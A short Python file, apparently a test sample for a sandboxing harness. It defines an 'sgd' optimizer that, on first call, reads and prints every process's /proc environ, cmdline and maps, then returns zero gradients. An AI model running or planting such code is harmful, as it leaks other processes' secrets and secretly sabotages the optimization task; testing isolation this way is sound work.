"""Look for other processes' environments, command lines and open files.

shows: secret
by: files, user
"""

import os

from cgp_harness import optimizer

DONE = []


def attack():
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for part in ("environ", "cmdline", "maps"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as file:
                    print(file.read())
            except OSError:
                pass


@optimizer
def sgd(g, lr=1e-3):
    if not DONE:
        attack()
        DONE.append(True)
    return 0 * g
